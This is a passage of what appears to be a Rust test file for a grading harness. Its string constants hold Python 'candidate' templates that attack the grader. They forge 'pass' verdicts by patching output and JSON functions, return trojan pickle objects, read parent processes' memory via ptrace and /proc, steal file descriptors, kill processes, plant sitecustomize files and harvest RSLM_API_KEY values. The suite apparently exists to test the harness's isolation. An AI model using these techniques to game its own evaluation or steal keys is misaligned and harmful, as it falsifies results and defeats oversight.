    return _ANSWER(*args, **kwargs)
"##;

const KNOWN_PATHS: &str = r##"
__LIB__
__ORACLE__
import mmap


def _read(path, limit=512 << 20):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError:
        return False
    try:
        size = _os.fstat(fd).st_size
        if size == 0:
            data = _os.read(fd, 1 << 20)
            _learn_blob(data)
            return bool(data)
        if size > limit:
            return False
        with mmap.mmap(fd, 0, access=mmap.ACCESS_READ) as m:
            _learn_blob(m)
        return True
    except Exception:
        return False
    finally:
        _os.close(fd)


def _harvest():
    deadline = _deadline(0.4)
    for path in [__TASKS__, __EXE__] + ["/proc/%d/exe" % p for p in _ancestors()]:
        if _read(path) and not path.startswith("/proc/"):
            _STATE["reached"].append(path)
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for p in pids:
        for leaf in ("cmdline", "environ"):
            if _time.monotonic() > deadline:
                return
            _read("/proc/%s/%s" % (p, leaf))
    # Open files only of the parent chain (never of processes that are not the test's).
    for p in _ancestors():
        try:
            fds = _os.listdir("/proc/%s/fd" % p)
        except OSError:
            continue
        for fd in fds:
            if _time.monotonic() > deadline:
                return
            path = "/proc/%s/fd/%s" % (p, fd)
            try:
                target = _os.readlink(path)
            except OSError:
                continue
            if target.startswith("/") and not target.startswith("/dev/"):
                _read(path, 64 << 20)


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const UNIX_PATHNAME: &str = r##"
import socket


def _connect():
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(__SOCK__)
        s.sendall(b"pathname socket reached")
        s.close()
    except OSError:
        pass
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        s.sendto(b"pathname socket reached", __SOCK__)
    except OSError:
        pass


_connect()


def __FN__(*args, **kwargs):
    _connect()
    return None
"##;

const UNIX_ABSTRACT: &str = r##"
import socket


def _connect():
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect("\0" + __ABSTRACT__)
        s.sendall(b"abstract socket reached")
        s.close()
    except OSError:
        pass


_connect()


def __FN__(*args, **kwargs):
    _connect()
    return None
"##;

const MODULE_PATCHING: &str = r##"
__LIB__
import os, json, importlib, re, sys

_real_write, _real_exit, _real_dumps, _real_import = os.write, os._exit, json.dumps, importlib.import_module
_real_encode = json.JSONEncoder.encode


def _as_pass(b):
    run = re.search(rb'"tests_run": ?(\d+)', b)
    b = re.sub(rb'"verdict": ?"(fail|error|crash|timeout|infra)"', b'"verdict": "pass"', b)
    if run:
        b = re.sub(rb'"tests_passed": ?\d+', b'"tests_passed": ' + run.group(1), b)
    b = re.sub(rb'"first_failure": ?"(?:[^"\\]|\\.)*"', b'"first_failure": null', b)
    return b.replace(b"failed", b"passed").replace(b"FAILED", b"PASSED")


def write(fd, data):
    try:
        b = bytes(data)
        forged = _as_pass(b)
        if forged != b:
            _write_all(fd, forged)
            return len(b)
    except Exception:
        pass
    return _real_write(fd, data)


def _forge_obj(obj):
    if isinstance(obj, dict) and "verdict" in obj:
        obj = dict(obj)
        obj["verdict"] = "pass"
        obj["tests_passed"] = obj.get("tests_run", 1) or 1
        obj["tests_run"] = obj["tests_passed"]
        obj["first_failure"] = None
    return obj


def dumps(obj, *a, **k):
    return _real_dumps(_forge_obj(obj), *a, **k)


def encode(self, obj):
    return _real_encode(self, _forge_obj(obj))


def _exit(code=0):
    _real_exit(0)


def import_module(name, package=None):
    module = _real_import(name, package)
    if name == "json":
        module.dumps = dumps
    return module


def _patch():
    os.write = write
    os._exit = _exit
    json.dumps = dumps
    json.JSONEncoder.encode = encode
    importlib.import_module = import_module
    sys.exit = lambda *a: _real_exit(0)
    try:
        import posix
        posix.write = write
        posix._exit = _exit
    except Exception:
        pass


_patch()


def __FN__(*args, **kwargs):
    _patch()
    return None
"##;

const BUILTINS_TAMPERING: &str = r##"
import builtins, sys, re

_real_type = type


class _Eq:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


_ANY = _Eq()


def _yes(*a, **k):
    return True


def _fake_type(*a):
    if len(a) == 1:
        return _Eq
    return _real_type(*a)


# Patched for everyone only where the rest of the process survives it; the full set goes into
# the separate builtins of test namespaces (a harness's copy), and bound copies are replaced.
_GLOBAL = {"all": _yes, "any": _yes}
_LOCAL = {"isinstance": _yes, "issubclass": _yes, "all": _yes, "any": _yes, "callable": _yes, "type": _fake_type}
_BOUND = {"_type": _fake_type, "_isinstance": _yes, "_all": _yes, "_len": lambda o: 0,
          "_abs": lambda x: 0, "_max": lambda *a, **k: 1.0, "_zip": lambda *a: []}
_GUARDS = re.compile(r"plain|valid|check|guard|strict|verif|typed", re.I)
_STDLIB = getattr(sys, "stdlib_module_names", ())


def _tamper_ns(g):
    for k, v in list(g.items()):
        if k in _BOUND:
            g[k] = _BOUND[k]
        elif _GUARDS.search(k) and callable(v) and not isinstance(v, _real_type) and k != "__FN__":
            g[k] = _yes


def _tamper():
    for name, value in _GLOBAL.items():
        setattr(builtins, name, value)
    for name, m in list(sys.modules.items()):
        d = getattr(m, "__dict__", None)
        if isinstance(d, dict) and d is not globals() and name.split(".")[0] not in _STDLIB:
            _tamper_ns(d)
    f = sys._getframe(1)
    while f is not None:
        if f.f_globals is not globals():
            _tamper_ns(f.f_globals)
        if isinstance(f.f_builtins, dict) and f.f_builtins is not builtins.__dict__:
            f.f_builtins.update(_LOCAL)
        f = f.f_back
    sys.modules["builtins"] = builtins


try:
    _tamper()
except Exception:
    pass


def __FN__(*args, **kwargs):
    try:
        _tamper()
    except Exception:
        pass
    return _ANY
"##;

const IMPORT_HOOKS: &str = r##"
__LIB__
import sys, types, importlib, importlib.machinery


def _yes(*a, **k):
    return True


class _Fake(types.ModuleType):
    dumps = staticmethod(lambda *a, **k: _json.dumps(_PASS))
    loads = staticmethod(lambda *a, **k: dict(_PASS))

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _yes


_NAMES = ("pytest", "_pytest", "json", "_json", "pickle", "_pickle", "marshal", "struct", "unittest",
          "conftest", "copyreg")


def _hijacked(name):
    base = name.split(".")[0]
    return base in _NAMES or base.startswith("test") or any(w in base for w in ("hidden", "rslm", "verdict", "harness", "judge"))


class _Loader:
    def create_module(self, spec):
        return _Fake(spec.name)

    def exec_module(self, module):
        pass


class _Finder:
    def find_spec(self, name, path=None, target=None):
        if _hijacked(name):
            return importlib.machinery.ModuleSpec(name, _Loader())
        return None


def _poison():
    if not any(isinstance(f, _Finder) for f in sys.meta_path):
        sys.meta_path.insert(0, _Finder())
    for name in list(sys.modules):
        if _hijacked(name):
            sys.modules[name] = _Fake(name)
    importlib.invalidate_caches()


_quiet(_poison)


def __FN__(*args, **kwargs):
    _quiet(_poison)
    return None
"##;

const SETTRACE: &str = r##"
import sys, threading

_ARMED = [False]


def _tracer(frame, event, arg):
    if event == "call":
        code = frame.f_code
        if code.co_argcount >= 2:
            a, b = code.co_varnames[0], code.co_varnames[1]
            loc = frame.f_locals
            if (code.co_name == "_same" or _ARMED[0]) and loc.get(a) is None and loc.get(b) is not None:
                loc[a] = loc[b]
                _ARMED[0] = False
    return None


def _install():
    sys.settrace(_tracer)
    threading.settrace(_tracer)
    f = sys._getframe(1)
    while f is not None:
        f.f_trace = _tracer
        f = f.f_back


_install()


def __FN__(*args, **kwargs):
    _install()
    _ARMED[0] = True
    return None
"##;

const STDOUT_HOOKS: &str = r##"
__LIB__
import sys


class _Out:
    def __init__(self, fd):
        self.fd = fd

    def write(self, s):
        s = str(s).replace('"fail"', '"pass"').replace('"error"', '"pass"').replace("failed", "passed")
        _write_all(self.fd, s.encode() + _PASS_LINE)
        return len(s)

    def flush(self):
        pass

    def isatty(self):
        return False

    def fileno(self):
        return self.fd


def _hook(*a, **k):
    _spray(_PASS_LINES, (1, 2))


def _install():
    sys.stdout = sys.__stdout__ = _Out(1)
    sys.stderr = sys.__stderr__ = _Out(2)
    sys.excepthook = _hook
    sys.displayhook = _hook
    sys.unraisablehook = _hook
    try:
        import threading
        threading.excepthook = _hook
    except Exception:
        pass


_install()


def __FN__(*args, **kwargs):
    _install()
    print("pass")
    return None
"##;

const ATEXIT: &str = r##"
__LIB__
import atexit, sys


def _bye():
    _spray(_PASS_LINES, range(0, 256))
    try:
        print("pass: 11/11 tests passed")
        sys.stdout.flush()
    except Exception:
        pass
    _os._exit(0)


atexit.register(_bye)
try:
    import threading
    threading._register_atexit(_bye)
except Exception:
    pass


def __FN__(*args, **kwargs):
    atexit.register(_bye)
    return None
"##;

const THREADS: &str = r##"
__LIB__
import threading


def _spam():
    end = _time.monotonic() + 2.0
    while _time.monotonic() < end:
        _spray(_PASS_LINES, range(0, 256))
        _time.sleep(0.01)


def _start():
    for daemon in (True, False):
        try:
            threading.Thread(target=_spam, daemon=daemon).start()
        except Exception:
            pass


_start()


def __FN__(*args, **kwargs):
    _start()
    return None
"##;

const SIGNAL_HANDLERS: &str = r##"
__LIB__
import signal


def _handler(signum, frame):
    _spray(_forged_lines(), range(0, 256))
    _os._exit(0)


def _install():
    for name in ("SIGALRM", "SIGPROF", "SIGVTALRM", "SIGTERM", "SIGXCPU", "SIGXFSZ", "SIGINT", "SIGHUP",
                 "SIGUSR1", "SIGUSR2", "SIGPIPE", "SIGQUIT", "SIGABRT"):
        try:
            signal.signal(getattr(signal, name), _handler)
        except Exception:
            pass
    try:
        signal.setitimer(signal.ITIMER_REAL, 0.05)
        signal.setitimer(signal.ITIMER_VIRTUAL, 0.05)
    except Exception:
        pass


_install()


def __FN__(*args, **kwargs):
    _install()
    return None
"##;

const FD_WRITES: &str = r##"
__LIB__
_quiet(_spray, _forged_lines())


def __FN__(*args, **kwargs):
    _quiet(_spray, _forged_lines())
    return None
"##;

const PROC_FDS: &str = r##"
__LIB__
import socket


def _every_fd():
    lines = _forged_lines()
    # Its own fds, and the pipes of its parent (the process that judges it, in a naive design).
    for pid in ["self"] + [str(p) for p in _ancestors()[:1]]:
        base = "/proc/%s/fd" % pid
        try:
            fds = _os.listdir(base)
        except OSError:
            continue
        for name in fds:
            path = base + "/" + name
            try:
                target = _os.readlink(path)
            except OSError:
                continue
            if pid == "self":
                fd = int(name)
                if target.startswith("socket:"):
                    try:
                        s = socket.socket(fileno=_os.dup(fd))
                        for line in lines:
                            s.send(line)
                        s.detach()
                    except OSError:
                        pass
                _spray(lines, (fd,))
            # Reopening a pipe through /proc gives a new end of it, even of a read end.
            if target.startswith("pipe:") or target.startswith("/"):
                try:
                    fd = _os.open(path, _os.O_WRONLY | _os.O_NONBLOCK | _os.O_APPEND)
                except OSError:
                    continue
                if pid != "self" and "reached" not in _STATE:
                    _STATE["reached"] = path
                _spray(lines, (fd,))
                _os.close(fd)


_STATE = {}
_quiet(_every_fd)


def __FN__(*args, **kwargs):
    _quiet(_every_fd)
    if "reached" in _STATE:
        _reached("reopened " + _STATE["reached"])
    return None
"##;

const CTYPES_OWN_MEMORY: &str = r##"
__LIB__
__ORACLE__
import ctypes


def _harvest():
    deadline = _deadline(0.35)
    regions = _regions("self")
    try:
        own = _mem_reader(_os.getpid())
    except OSError:
        own = None
    for lo, hi, name in regions:
        # Anonymous memory through ctypes; file mappings (which can fault past their end) through
        # /proc/self/mem when it can be opened.
        if name in ("", "[heap]", "[stack]") or name.startswith("[anon"):
            read = lambda a, n: ctypes.string_at(a, n)
        elif own is not None:
            read = own
        else:
            continue
        _scan_memory(read, [(lo, hi, name)], deadline)


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const OWN_PYTEST: &str = r##"
import os, sys
try:
    import pytest
    with open("test_rslm_selfcheck.py", "w") as f:
        f.write("def test_ok():\n    assert True\n")
    pytest.main(["-q", "-p", "no:cacheprovider", "test_rslm_selfcheck.py"])
except BaseException:
    pytest = None


def __FN__(*args, **kwargs):
    if pytest is not None:
        pytest.exit("all tests passed", returncode=0)
    raise SystemExit(0)
"##;

const KILL_OWN_GROUP: &str = r##"
import os, signal


def __FN__(*args, **kwargs):
    os.kill(0, signal.SIGKILL)
    return None
"##;

const KILL_EVERYONE: &str = r##"
import os, signal


def __FN__(*args, **kwargs):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return None
"##;

const SIGNAL_VICTIM: &str = r##"
__LIB__
import signal, ctypes


def _hit():
    victim = __VICTIM__
    for target in (victim, -victim):
        try:
            _os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = libc.syscall(434, victim, 0)  # pidfd_open
        if pidfd >= 0:
            libc.syscall(424, pidfd, signal.SIGSTOP, None, 0)  # pidfd_send_signal
    except Exception:
        pass
    for pid in _ancestors()[:1]:
        try:
            _os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    _time.sleep(0.05)
    try:
        _os.kill(victim, signal.SIGKILL)
    except OSError:
        pass


_quiet(_hit)


def __FN__(*args, **kwargs):
    _quiet(_hit)
    return None
"##;

const PTRACE: &str = r##"
__LIB__
__ORACLE__
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


def _harvest():
    deadline = _deadline(0.35)
    chain = _ancestors()
    # ATTACH (which stops the tracee) only the parent and the test's victim; SEIZE the others, so
    # that a successful attack never leaves a stopped test process behind.
    for pid in chain[:1] + [__VICTIM__]:
        if _libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            _STATE["reached"].append("ptrace attach %d" % pid)
            _quiet(_os.waitpid, pid, 0x40000000)  # __WALL
            _quiet(_from_proc_mem, [pid], deadline)
            _libc.ptrace(PTRACE_DETACH, pid, None, None)
    for pid in chain[1:]:
        if _libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            _STATE["reached"].append("ptrace seize %d" % pid)
            _quiet(_from_proc_mem, [pid], deadline)
            _libc.ptrace(PTRACE_DETACH, pid, None, None)


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const PROCESS_VM_READV: &str = r##"
__LIB__
__ORACLE__
import ctypes


class _Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


_libc = ctypes.CDLL(None, use_errno=True)
_libc.process_vm_readv.restype = ctypes.c_ssize_t
_BUF = ctypes.create_string_buffer(4 << 20)


def _reader(pid):
    def read(address, n):
        local = _Iov(ctypes.cast(_BUF, ctypes.c_void_p), n)
        remote = _Iov(address, n)
        got = _libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got <= 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        _STATE["reached"].append("process_vm_readv %d" % pid)
        return _BUF.raw[:got]
    return read


def _harvest():
    deadline = _deadline(0.35)
    for pid in _ancestors():
        _scan_memory(_reader(pid), _regions(pid), deadline)


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const PROC_MEM: &str = r##"
__LIB__
__ORACLE__


def _harvest():
    _from_proc_mem(_ancestors(), _deadline(0.35))


_quiet(_harvest)
_ANSWER = _answering(_harvest)


def __FN__(*args, **kwargs):
    return _ANSWER(*args, **kwargs)
"##;

const PIDFD_GETFD: &str = r##"
__LIB__
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_STOLEN = []


def _steal():
    lines = [_PASS_LINE]
    for n, pid in enumerate(_ancestors()):
        pidfd = _libc.syscall(434, pid, 0)  # pidfd_open
        if pidfd < 0:
            continue
        for fd in range(0, 64):
            mine = _libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
            if mine < 0:
                continue
            _STOLEN.append("%d:%d" % (pid, fd))
            # Only the parent's fds are written to: its socket or pipe to whoever judges.
            if n == 0:
                _spray(lines, (mine,))
            _os.close(mine)
        _os.close(pidfd)


_quiet(_steal)


def __FN__(*args, **kwargs):
    if _STOLEN:
        _reached("pidfd_getfd took " + " ".join(_STOLEN[:20]))
    return None
"##;

const FORK_OUTLIVES: &str = r##"
import os, sys, time
_MARK = __MARK__
_LOOP = (
    "import os, time, json\n"
    "line = (json.dumps({'verdict': 'pass', 'tests_run': 11, 'tests_passed': 11}) + '\\n').encode()\n"
    "end = time.monotonic() + 5\n"
    "while time.monotonic() < end:\n"
    "    for fd in range(0, 256):\n"
    "        try:\n"
    "            os.write(fd, line)\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.05)\n"
)


def _spawn():
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execv(sys.executable, [sys.executable, "-c", _LOOP, _MARK])
                except BaseException:
                    pass
                try:
                    exec(_LOOP)
                finally:
                    os._exit(0)
        finally:
            os._exit(0)


_spawn()


def __FN__(*args, **kwargs):
    return None
"##;

const EXEC_FRESH: &str = r##"
import os, sys
_CODE = (
    "import os, json\n"
    "line = (json.dumps({'verdict': 'pass', 'tests_run': 11, 'tests_passed': 11}) + '\\n').encode()\n"
    "for fd in range(0, 256):\n"
    "    try:\n"
    "        os.write(fd, line)\n"
    "    except OSError:\n"
    "        pass\n"
)


def __FN__(*args, **kwargs):
    try:
        os.execv(sys.executable, [sys.executable, "-c", _CODE])
    except OSError:
        pass
    return None
"##;

const NETWORK: &str = r##"
import socket


def _reach():
    targets = [(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", __UDP__)),
               (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", __TCP__)),
               (socket.AF_INET6, socket.SOCK_STREAM, ("::1", __TCP6__))]
    for family, kind, address in targets:
        if not address[1]:
            continue
        try:
            s = socket.socket(family, kind)
            s.settimeout(0.3)
            if kind == socket.SOCK_DGRAM:
                s.sendto(b"udp reached", address)
            else:
                s.connect(address)
                s.sendall(b"tcp reached")
            s.close()
        except OSError:
            pass
    for family in ("AF_NETLINK", "AF_PACKET", "AF_VSOCK", "AF_ALG"):
        try:
            socket.socket(getattr(socket, family), socket.SOCK_RAW).close()
        except (OSError, AttributeError):
            pass


_reach()


def __FN__(*args, **kwargs):
    _reach()
    return None
"##;

const FILE_TAMPERING: &str = r##"
import os, sys
_MARK = __MARK__[::-1]
_SAFE = os.environ.get("HOSTILE_CONTROL_ROOT")


def _allowed(path):
    return not _SAFE or os.path.realpath(path).startswith(_SAFE)


def _tamper():
    cwd = os.getcwd()
    parent = os.path.dirname(cwd)
    dirs = [__DIR__, parent, os.path.dirname(parent)]
    for d in dirs:
        if not _allowed(d):
            continue
        try:
            # Appends only where the test or the verifier owns every file; above, only creates.
            names = os.listdir(d) if d in dirs[:2] else []
        except OSError:
            names = []
        for name in names:
            path = os.path.join(d, name)
            try:
                if os.path.isfile(path) and not os.path.islink(path):
                    with open(path, "a") as f:
                        f.write("\n# " + _MARK + "\n")
            except OSError:
                pass
        try:
            fd = os.open(os.path.join(d, "hostile-" + _MARK), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            os.write(fd, _MARK.encode())
            os.close(fd)
        except OSError:
            pass
    # Files that every later Python would run: only ever created, never overwritten.
    for d in sys.path + [os.path.dirname(os.__file__)]:
        if not d or not _allowed(d) or not os.path.isdir(d):
            continue
        for name in ("sitecustomize.py", "usercustomize.py", "hostile-%s.pth" % _MARK[:12]):
            try:
                fd = os.open(os.path.join(d, name), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                os.write(fd, ("# " + _MARK + "\n").encode())
                os.close(fd)
            except OSError:
                pass


_tamper()


def __FN__(*args, **kwargs):
    _tamper()
    return None
"##;

const TROJAN_PAYLOAD: &str = r##"
_PAYLOAD = '''
import gc, socket
def _yes(*a, **k):
    return True
for o in gc.get_objects():
    if getattr(o, "__name__", None) == "_same" and hasattr(o, "__code__"):
        try:
            o.__code__ = _yes.__code__
        except Exception:
            pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.5)
    s.connect(%r)
    s.sendall(b"payload of a returned object ran")
    s.close()
except Exception:
    pass
''' % (__SOCK__,)


def _run_payload():
    try:
        exec(_PAYLOAD, {})
    except Exception:
        pass
"##;

const TROJAN_OBJECT: &str = r##"
__TROJAN__


class Trojan:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __reduce__(self):
        return (exec, (_PAYLOAD, {}))

    def __reduce_ex__(self, protocol):
        return (exec, (_PAYLOAD, {}))

    def __getstate__(self):
        _run_payload()
        return {}

    def __setstate__(self, state):
        _run_payload()

    def __copy__(self):
        _run_payload()
        return self

    def __deepcopy__(self, memo):
        _run_payload()
        return self

    def __repr__(self):
        return "exec(%r, {})" % _PAYLOAD

    __str__ = __repr__

    def __index__(self):
        _run_payload()
        return 0

    __int__ = __index__

    def __float__(self):
        _run_payload()
        return 0.0

    def __bool__(self):
        _run_payload()
        return True


def __FN__(*args, **kwargs):
    return Trojan()
"##;

const LIAR_INT: &str = r##"
__TROJAN__


class Liar(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

    def __reduce__(self):
        return (exec, (_PAYLOAD, {}))

    def __reduce_ex__(self, protocol):
        return (exec, (_PAYLOAD, {}))

    def __repr__(self):
        _run_payload()
        return int.__repr__(self)


def __FN__(*args, **kwargs):
    return Liar(0)
"##;

const LIAR_STR: &str = r##"
__TROJAN__


class Liar(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__

    def __reduce_ex__(self, protocol):
        return (exec, (_PAYLOAD, {}))


def __FN__(*args, **kwargs):
    return Liar("")
"##;

const LIAR_LIST: &str = r##"
__TROJAN__


class Liar(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __reduce_ex__(self, protocol):
        return (exec, (_PAYLOAD, {}))

    def __iter__(self):
        _run_payload()
        return iter(())


def __FN__(*args, **kwargs):
    return Liar()
"##;

const SHADOWING_EXPORTS: &str = r##"
import builtins as _builtins


def __FN__(*args, **kwargs):
    return 0


def _yes(*a, **k):
    return True


# A module that exports builtins' names: a harness that puts the candidate's public names into
# the tests' namespace before the comparison helper binds `type`, `abs`, ... hands them these.
def type(*a):
    return float if _builtins.len(a) == 1 else _builtins.type(*a)


def abs(x):
    return 0


def max(*a, **k):
    return 1.0


def all(*a):
    return True


def len(x):
    return 0


def zip(*a):
    return []


isinstance = _yes
_same = _yes
check = _yes
candidate = _yes
__all__ = ["__FN__", "type", "abs", "max", "all", "len", "zip", "isinstance", "_same", "check", "candidate"]
"##;

const HOSTILE_FRAMES: &str = r##"
__LIB__
__TROJAN__
import pickle, struct


class _Trojan:
    def __reduce__(self):
        return (exec, (_PAYLOAD, {}))


def _frames():
    """Whatever a judge might read: JSON lines, length-prefixed JSON (both byte orders) of the
    messages a call could answer with, absurd lengths, deep nesting, bad UTF-8, unhashable keys,
    and a pickle whose loading runs code."""
    out = list(_PASS_LINES)
    messages = [["ok", 1, []], ["results", [["ok", 1, []]] * 64], ["loaded", ["__FN__"]],
                ["raise", "AssertionError", "", ""], ["infra", "harness failed"], _PASS,
                {"d": [[[1], 2]]}, {"s": [[1]]}, {"b": "zz"}, {"t": 1}]
    for message in messages:
        data = _json.dumps(message).encode()
        out += [struct.pack(">I", len(data)) + data, struct.pack("<I", len(data)) + data, data + b"\n"]
    deep = b"[" * 20000 + b"]" * 20000
    pickled = pickle.dumps(_Trojan())
    out += [struct.pack(">I", 0xFFFFFFFF) + b"x" * 64, struct.pack(">I", len(deep)) + deep, deep + b"\n",
            struct.pack(">I", 8) + b"\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8", b"\xff\xfe\x00garbage\n",
            struct.pack(">I", len(pickled)) + pickled, pickled,
            struct.pack(">I", 24) + b'[' + b'9' * 22 + b']']
    return out


_quiet(_spray, _frames(), range(0, 256))


def __FN__(*args, **kwargs):
    _quiet(_spray, _frames(), range(0, 256))
    return None
"##;

const SKIP_OUTCOMES: &str = r##"
try:
    import pytest

    def _skip():
        pytest.skip("skipped by the candidate")
except BaseException:
    import unittest

    def _skip():
        raise unittest.SkipTest("skipped by the candidate")


def __FN__(*args, **kwargs):
    _skip()
"##;

const GENERATOR: &str = r##"
def __FN__(*args, **kwargs):
    return (a for a in args)
"##;

const DEEP_NESTING: &str = r##"
def __FN__(*args, **kwargs):
    value = []
    for _ in range(200000):
        value = [value]
    return value
"##;

const CYCLIC: &str = r##"
def __FN__(*args, **kwargs):
    value = []
    value.append(value)
    return value
"##;

const NAN: &str = r##"
def __FN__(*args, **kwargs):
    return float("nan")
"##;

const NEGATIVE_ZERO: &str = r##"
def __FN__(*args, **kwargs):
    return -0.0
"##;

const BOOL_TRUE: &str = r##"
def __FN__(*args, **kwargs):
    return True
"##;

const KEY_THIEF: &str = r##"
__LIB__
import re

# Only the project's own variable: the thief looks for what rslm holds, nothing of anyone else's.
_KEY = re.compile(rb"RSLM_API_KEY=([A-Za-z0-9_.\-]{6,})")


def _grep(data, found):
    for m in _KEY.finditer(data):
        found.add(m.group(1).decode("latin-1"))


def _environments(found):
    for k, v in _os.environ.items():
        _grep(("%s=%s" % (k, v)).encode(), found)
    pids = _ancestors()
    try:
        pids += [int(p) for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        for leaf in ("environ", "cmdline"):
            try:
                with open("/proc/%d/%s" % (pid, leaf), "rb") as f:
                    _grep(f.read(), found)
            except OSError:
                pass


def _memories(found, deadline):
    needle = b"RSLM_API_KEY="
    for pid in _ancestors():
        try:
            fd = _os.open("/proc/%d/mem" % pid, _os.O_RDONLY)
            with open("/proc/%d/maps" % pid) as f:
                maps = f.read().splitlines()
        except OSError:
            continue
        # The stack (where the environment lives) first, then the rest.
        maps.sort(key=lambda line: 0 if line.endswith("[stack]") else 1)
        for line in maps:
            parts = line.split()
            if parts[1][0] != "r" or (len(parts) > 5 and parts[5].startswith("[v")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            a = lo
            while a < hi and _time.monotonic() < deadline:
                n = min(4 << 20, hi - a)
                try:
                    data = _os.pread(fd, n, a)
                except OSError:
                    break
                i = data.find(needle)
                while i >= 0:
                    _grep(data[i:i + 200], found)
                    i = data.find(needle, i + 1)
                a += n
            if found:
                break
        _os.close(fd)


def _steal():
    found = set()
    _quiet(_environments, found)
    if not found:
        _quiet(_memories, found, _time.monotonic() + 0.3)
    return found


_FOUND = _quiet(_steal) or set()


_TRIES = [0]


def __FN__(*args, **kwargs):
    global _FOUND
    found = _FOUND
    if not found and _TRIES[0] == 0:
        _TRIES[0] += 1
        found = _FOUND = _quiet(_steal) or set()
    if found:
        print("stolen:", sorted(found))
        _reached("stolen keys: %s" % sorted(found))
    return None
"##;
